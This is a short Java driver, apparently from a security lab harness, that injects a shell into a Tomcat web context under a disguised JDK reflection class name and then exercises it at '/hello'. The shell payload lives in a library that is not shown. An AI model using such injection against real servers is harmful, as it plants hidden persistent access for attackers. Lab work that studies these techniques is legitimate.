import whorl.lab.attack.Shells;

public class Attack {
  public static void main(String[] args) throws Exception {
    Shells.inject(
        "whorl.lab.attack.TomcatContext", "jdk.internal.reflect.GeneratedMethodAccessor88");
    Shells.use("/hello");
    whorl.lab.attack.Attacker.done();
  }
}
